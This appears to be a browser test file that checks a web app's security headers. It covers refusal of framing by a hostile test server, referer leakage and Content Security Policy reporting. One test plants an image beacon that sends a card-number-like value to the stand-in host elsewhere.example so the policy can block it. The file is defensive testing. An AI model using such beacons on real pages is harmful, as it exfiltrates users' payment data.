/** @run short: headers and policy as the browser obeys them */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { after, before, describe, it } from 'node:test'
import type { DeployHeaders } from '../../config/deploy-files'
import { inlineScriptHashes } from '../../config/document-headers'
import { until, useApp } from './harness'

const app = useApp()

const DIST = process.env.H5_DIST ?? path.resolve(__dirname, '../../dist/h5')
const deploy = JSON.parse(readFileSync(path.join(DIST, 'deploy/headers.json'), 'utf8')) as DeployHeaders

/** A site of somebody else that frames what its address says. */
let framer: Server

before(async () => {
  framer = createServer((request, response) => {
    const framed = new URL(request.url ?? '/', 'http://framer').searchParams.get('of') ?? ''
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(`<iframe src="${framed}" onload="document.title = 'framed'"></iframe>`)
  })
  await new Promise<void>(resolve => framer.listen(0, '127.0.0.1', resolve))
})
after(() => framer.close())

describe('the product in a frame of another site', { concurrency: 1 }, () => {
  for (const host of ['127.0.0.1', 'localhost']) {
    for (const address of [
      '/phone/home',
      '/phone/index.html',
      '/phone//index.html',
      '/phone/entry/home.html',
    ]) {
      it(`stays empty: ${address} at ${host}`, async () => {
        const visit = await app.visit({ customer: 'U1', expectedErrors: /./ })
        const { port } = framer.address() as AddressInfo
        const of = encodeURIComponent(app.url + address)
        await visit.page.goto(`http://${host}:${port}/?of=${of}`)
        await visit.page.waitForFunction(() => document.title === 'framed')
        const [, frame] = visit.page.frames()
        const origin = await frame?.evaluate(() => window.origin)
        assert.notEqual(origin, app.url)
        assert.equal(await frame?.locator('#app').count(), 0)
        await visit.close()
      })
    }
  }
})

describe('what the policy refuses', { concurrency: 1 }, () => {
  it('is reported by the browser, with the page and the site alone', async () => {
    const visit = await app.visit({
      customer: 'U1',
      expectedErrors: /Content Security Policy|to another host: https:..elsewhere/,
    })
    await visit.open('/phone/assets/assetsDetail?positionId=U1-P05')
    await visit.settle()
    await visit.page.evaluate(() => {
      const picture = new Image()
      picture.src = 'https://elsewhere.example/pixel.gif?card=6222020200012345678'
    })
    type Report = Record<'name' | 'message' | 'route', string>
    const reports = () => app.control<Report[]>('GET', 'errors')
    await until('the report has come', async () => (await reports()).length > 0)
    const [{ name, message, route }, ...others] = (await reports()) as [Report, ...Report[]]
    assert.deepEqual(
      [name, message, route],
      ['PolicyViolation', 'img-src refused https://elsewhere.example', 'assets/position'],
    )
    assert.deepEqual(others, [])
    await visit.close()
  })
})

describe('where the customer is', { concurrency: 1 }, () => {
  it('is in no request: neither path nor query of the page', async () => {
    const visit = await app.visit({ customer: 'U1' })
    const referers: (string | undefined)[] = []
    visit.page.on('request', request => {
      // What the server gets, not what the page asked for.
      void request.allHeaders().then(({ referer }) => referers.push(referer))
    })
    await visit.open('/phone/assets/assetsDetail?positionId=U1-P05')
    await visit.see('远岚')
    await visit.settle()
    assert.ok(referers.includes(`${app.url}/`))
    assert.deepEqual([...new Set(referers)].filter(Boolean), [`${app.url}/`])
    await visit.close()
  })
})

describe('what the build says to deployers', { concurrency: 1 }, () => {
  it('fits every page that the sandbox serves', async () => {
    for (const address of ['home', 'assets/assetsList', 'login', 'no/such/page']) {
      const response = await fetch(`${app.url}/phone/${address}`)
      const policy = response.headers.get('content-security-policy') ?? ''
      const own = inlineScriptHashes(await response.text())
      assert.ok(own.length >= 2, address)
      for (const hash of own) {
        assert.ok(deploy.scriptHashes.includes(hash), `${address} runs a script of another hash`)
        assert.ok(policy.includes(hash), address)
      }
    }
  })

  it('is not for visitors', async () => {
    for (const name of ['headers.json', 'nginx.conf']) {
      assert.equal((await fetch(`${app.url}/phone/deploy/${name}`)).status, 404)
    }
  })
})
